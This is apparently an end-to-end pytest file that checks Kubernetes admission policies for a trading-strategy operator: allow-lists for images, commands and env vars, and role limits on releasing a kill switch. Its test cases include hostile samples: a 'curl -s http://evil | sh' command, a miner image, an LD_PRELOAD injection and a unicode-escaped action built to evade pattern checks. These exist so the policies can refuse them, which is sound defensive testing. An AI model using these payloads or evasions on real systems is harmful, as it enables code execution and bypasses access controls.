"""End to end, the chart's ValidatingAdmissionPolicies (templates/admission-policy.yaml) on the real API
server, with two real users of the local stack's token file (hack/localstack.py EXTRA_USERS):
``trader-dev`` (group quantramp:developers) and ``risk-officer`` (group quantramp:risk-officers), each
with its own kubeconfig and only the RBAC this module grants them (edit TradingStrategies in the
watched namespace). A strategy naming an image, command or env outside the platform's allow-list is
refused with a message naming the list; the developer may engage a kill switch but not release it,
nor clear the reduced (10%) champion sizing; the risk officer may do both; the operator's own
ServiceAccount is never stopped."""

from __future__ import annotations

import json
import subprocess
import time

import pytest
import yaml

import demo

pytestmark = pytest.mark.e2e

NS = "default"  # the namespace the Harness' release watches (the bindings match only watched namespaces)
UNWATCHED = "adm-unwatched"
ALLOWLIST, GUARD = "quantramp-trader-allowlist", "quantramp-kill-switch-guard"
OPERATOR_SA = f"system:serviceaccount:{demo.OPERATOR_NS}:{demo.RELEASE}-operator"
NAME = "adm-guard"  # its model is never registered: it waits in Pending, no trader pod runs
RBAC = f"""
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {{name: qr-e2e-strategy-editor}}
rules:
  - apiGroups: [quantramp.io]
    resources: [tradingstrategies]
    verbs: [get, list, watch, create, update, patch, delete]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {{name: qr-e2e-strategy-editors, namespace: {NS}}}
roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: qr-e2e-strategy-editor}}
subjects:
  - {{apiGroup: rbac.authorization.k8s.io, kind: Group, name: "quantramp:developers"}}
  - {{apiGroup: rbac.authorization.k8s.io, kind: Group, name: "quantramp:risk-officers"}}
"""


def strategy(name: str = NAME, namespace: str = NS, **trader) -> dict:
    return {"apiVersion": "quantramp.io/v1alpha1", "kind": "TradingStrategy", "metadata": {"name": name, "namespace": namespace},
            "spec": {"model": {"name": "adm-never-registered", "version": "2"}, "capitalUsd": 100000,
                     "admission": {"mode": "off"}, "stopLoss": {"enabled": False}, "trader": trader}}


def kubectl_as(stack, user: str, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    """kubectl with ``user``'s own kubeconfig (its token: authenticated as that user, not impersonated)."""
    return subprocess.run(["kubectl", "--kubeconfig", str(stack.dir / f"{user}.kubeconfig"), *args], env=stack.env,
                          input=stdin, text=True, capture_output=True)


def plugin_as(stack, user: str, *args: str) -> subprocess.CompletedProcess:
    env = {**stack.env, "KUBECONFIG": str(stack.dir / f"{user}.kubeconfig")}
    return subprocess.run([str(demo.BIN / "kubectl-quantramp"), *args], env=env, text=True, capture_output=True)


def dry_run(stack, user: str, obj: dict) -> subprocess.CompletedProcess:
    return kubectl_as(stack, user, "apply", "--dry-run=server", "-f", "-", stdin=yaml.safe_dump(obj))


def spec_of(stack, name: str = NAME) -> dict:
    return json.loads(stack.kubectl("get", "tradingstrategy", name, "-n", NS, "-o", "json").stdout)["spec"]


def one_line(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture(scope="module")
def people(operator_stack):
    s = operator_stack
    for user in ("trader-dev", "risk-officer"):
        assert (s.dir / f"{user}.kubeconfig").exists(), f"hack/localstack.py writes {user}.kubeconfig; restart the stack"
    s.kubectl("apply", "-f", "-", stdin=RBAC)
    s.kubectl("create", "namespace", UNWATCHED, check=False)
    # the policies take effect once the API server has loaded them and their bindings (about a second)
    bad = strategy("adm-probe", image="evil.example.com/miner:latest")
    deadline, out = time.monotonic() + 60, None
    while time.monotonic() < deadline:
        out = dry_run(s, "trader-dev", bad)
        if out.returncode != 0 and ALLOWLIST in out.stderr:
            break
        time.sleep(1)
    else:
        raise AssertionError(f"the trader allow-list never refused a bad image: {out.stdout}{out.stderr}")
    yield s
    s.kubectl("delete", "tradingstrategy", NAME, "-n", NS, "--ignore-not-found", "--wait=false", check=False)
    s.kubectl("delete", "rolebinding", "qr-e2e-strategy-editors", "-n", NS, "--ignore-not-found", check=False)
    s.kubectl("delete", "clusterrole", "qr-e2e-strategy-editor", "--ignore-not-found", check=False)
    s.kubectl("delete", "namespace", UNWATCHED, "--wait=false", check=False)


def test_the_release_installs_both_policies_bound_to_the_watched_namespace(people):
    for name in (ALLOWLIST, GUARD):
        pol = json.loads(people.kubectl("get", "validatingadmissionpolicy", name, "-o", "json").stdout)
        assert pol["spec"]["failurePolicy"] == "Fail"
        binding = json.loads(people.kubectl("get", "validatingadmissionpolicybinding", name, "-o", "json").stdout)
        assert binding["spec"]["validationActions"] == ["Deny"]
        assert binding["spec"]["matchResources"]["namespaceSelector"]["matchExpressions"] == [
            {"key": "kubernetes.io/metadata.name", "operator": "In", "values": [NS]}]
        # the API server type-checks each expression against the CRD's schema; warnings are informational
        # (the expressions run on the untyped object), printed here for whoever reads the log
        print(name, "typeChecking:", json.dumps((pol.get("status") or {}).get("typeChecking") or {}))


@pytest.mark.parametrize("trader,message", [
    ({"image": "evil.example.com/miner:latest"},
     "spec.trader.image evil.example.com/miner:latest is not an allowed trader image; allowed: quantramp "
     "(any tag of a repository; leave it empty for the platform default)"),
    # a registry on port 5000 of a host called quantramp is not a tag of repository quantramp
    ({"image": "quantramp:5000/evil"}, "spec.trader.image quantramp:5000/evil is not an allowed trader image; allowed: quantramp"),
    ({"command": ["sh", "-c", "curl -s http://evil | sh"]},
     "spec.trader.command is not an allowed trader command; allowed: quantramp-trader run (Helm value admission.allowedTraderCommands)"),
    ({"env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}, "spec.trader.env sets LD_PRELOAD, not allowed by the platform; allowed: none"),
])
def test_a_strategy_outside_the_allow_list_is_refused_with_the_allowed_list(people, trader, message):
    out = dry_run(people, "trader-dev", strategy(**trader))
    assert out.returncode != 0, out.stdout
    err = one_line(out.stderr)
    assert f"ValidatingAdmissionPolicy '{ALLOWLIST}' with binding '{ALLOWLIST}' denied request" in err, err
    assert message in err, err
    # cluster admins too: only the operator's own account is exempt
    assert people.kubectl("apply", "--dry-run=server", "-f", "-", stdin=yaml.safe_dump(strategy(**trader)), check=False).returncode != 0


def market_data(secret: str | None) -> dict:
    pg = {"dsn": "postgresql://quantramp@db.example.com:5432/market"}
    if secret:
        pg["passwordSecretKeyRef"] = {"name": secret, "key": "password"}
    return {"source": "postgres", "postgres": pg}


def test_a_market_data_password_secret_outside_the_allow_list_is_refused(people):
    # the trader would send the named Secret's value to the DSN's host, which the strategy's author picks
    obj = strategy(name="adm-md")
    obj["spec"].update(symbols=["MSFT"], marketData=market_data("quantramp-redis"))
    out = dry_run(people, "trader-dev", obj)
    assert out.returncode != 0, out.stdout
    err = one_line(out.stderr)
    assert (f"ValidatingAdmissionPolicy '{ALLOWLIST}' with binding '{ALLOWLIST}' denied request: spec.marketData.postgres."
            "passwordSecretKeyRef names Secret quantramp-redis, not allowed by the platform; allowed: market-db") in err, err
    # the platform's listed Secret, and a database without a password, are accepted
    for md in (market_data("market-db"), market_data(None)):
        obj["spec"]["marketData"] = md
        out = dry_run(people, "trader-dev", obj)
        assert out.returncode == 0, out.stderr


def test_the_platform_image_and_command_are_accepted_and_unwatched_namespaces_are_not_bound(people):
    for trader in ({}, {"image": "quantramp:dev"}, {"image": "quantramp:dev", "command": ["quantramp-trader", "run"]}):
        out = dry_run(people, "trader-dev", strategy(**trader))
        assert out.returncode == 0, out.stderr
    # a strategy where the operator does not look runs nothing: not checked (the admin writes it: the
    # developer has no RBAC there)
    out = people.kubectl("apply", "--dry-run=server", "-f", "-", check=False,
                         stdin=yaml.safe_dump(strategy("adm-elsewhere", UNWATCHED, image="evil.example.com/miner:latest")))
    assert out.returncode == 0, out.stderr


def test_a_developer_engages_the_kill_switch_but_only_a_risk_officer_releases_it(people):
    s = people
    out = kubectl_as(s, "trader-dev", "apply", "-f", "-", stdin=yaml.safe_dump(strategy()))
    assert out.returncode == 0, out.stderr
    engage = {"spec": {"killSwitch": {"engaged": True, "reason": "e2e: feed looks wrong", "by": "trader-dev"}}}
    out = kubectl_as(s, "trader-dev", "patch", "tradingstrategy", NAME, "-n", NS, "--type", "merge", "-p", json.dumps(engage))
    assert out.returncode == 0, out.stderr

    release = {"spec": {"killSwitch": {"engaged": False, "reason": "e2e: looks fine to me", "by": "trader-dev"}}}
    out = kubectl_as(s, "trader-dev", "patch", "tradingstrategy", NAME, "-n", NS, "--type", "merge", "-p", json.dumps(release))
    assert out.returncode != 0
    err = one_line(out.stderr)
    assert f"ValidatingAdmissionPolicy '{GUARD}' with binding '{GUARD}' denied request" in err, err
    assert (f"releasing the kill switch of {NAME} is reserved to members of quantramp:risk-officers, system:masters "
            f"(you are trader-dev): ask one of them to run kubectl quantramp kill off {NAME}") in err, err
    # the same through the plugin, which says the API server's words
    out = plugin_as(s, "trader-dev", "kill", "off", NAME, "-n", NS, "--reason", "e2e: let me trade", "--wait", "0")
    assert out.returncode == 1 and "kill off refused:" in out.stderr and "reserved to members of quantramp:risk-officers" in one_line(out.stderr), out.stderr
    assert spec_of(s)["killSwitch"]["engaged"] is True

    out = plugin_as(s, "risk-officer", "kill", "off", NAME, "-n", NS, "--reason", "e2e: risk reviewed the feed", "--wait", "0")
    assert out.returncode == 0, out.stdout + out.stderr
    ks = spec_of(s)["killSwitch"]
    assert ks["engaged"] is False and ks["by"] == "risk-officer"


def test_only_a_risk_officer_clears_the_reduced_champion_sizing(people):
    s = people
    if s.kubectl("get", "tradingstrategy", NAME, "-n", NS, check=False).returncode != 0:
        assert kubectl_as(s, "trader-dev", "apply", "-f", "-", stdin=yaml.safe_dump(strategy())).returncode == 0
    out = plugin_as(s, "trader-dev", "clear", NAME, "-n", NS, "--reason", "e2e: back to full size", "--wait", "0")
    assert out.returncode == 1, out.stdout
    err = one_line(out.stderr)  # the plugin passes on the API server's own message
    assert err.startswith("error: cannot send clear: ") and f"ValidatingAdmissionPolicy '{GUARD}' with binding '{GUARD}' denied request" in err, err
    assert (f"clearing the reduced (10%) champion sizing of {NAME} is reserved to members of quantramp:risk-officers"
            in err), err
    # the same request spelled so a pattern would miss it, as the operator's json.loads would read it
    sneaky = '{"id": "e2e-sneaky", "action": "\\u0063lear", "reason": "r", "by": "trader-dev"}'
    out = kubectl_as(s, "trader-dev", "annotate", "--overwrite", "tradingstrategy", NAME, "-n", NS, f"quantramp.io/action={sneaky}")
    assert out.returncode != 0 and "must not write letters as \\u escapes" in out.stderr, out.stdout + out.stderr
    # any other action stays the developer's
    out = plugin_as(s, "trader-dev", "pause", NAME, "-n", NS, "--wait", "0")
    assert out.returncode == 0, out.stderr
    out = plugin_as(s, "risk-officer", "clear", NAME, "-n", NS, "--reason", "e2e: risk approved full size", "--wait", "0")
    assert out.returncode == 0, out.stderr
    assert '"action": "clear"' in json.loads(s.kubectl("get", "tradingstrategy", NAME, "-n", NS, "-o", "json").stdout)[
        "metadata"]["annotations"]["quantramp.io/action"]


def test_the_operators_service_account_is_never_stopped(people):
    """The operator writes status (not matched) and kopf's annotations (not read); should it ever write the
    kill switch itself, it passes: the admin sends the release as the operator's account (impersonation)."""
    s = people
    if s.kubectl("get", "tradingstrategy", NAME, "-n", NS, check=False).returncode != 0:
        assert kubectl_as(s, "trader-dev", "apply", "-f", "-", stdin=yaml.safe_dump(strategy())).returncode == 0
    engage = {"spec": {"killSwitch": {"engaged": True, "reason": "e2e: engaged for the operator test", "by": "trader-dev"}}}
    assert kubectl_as(s, "trader-dev", "patch", "tradingstrategy", NAME, "-n", NS, "--type", "merge", "-p", json.dumps(engage)).returncode == 0
    release = {"spec": {"killSwitch": {"engaged": False, "reason": "e2e: released by the operator's account", "by": "quantramp-operator"}}}
    out = s.kubectl("patch", "tradingstrategy", NAME, "-n", NS, f"--as={OPERATOR_SA}", "--type", "merge", "-p", json.dumps(release),
                    check=False)
    assert out.returncode == 0, out.stderr
    assert spec_of(s)["killSwitch"]["engaged"] is False
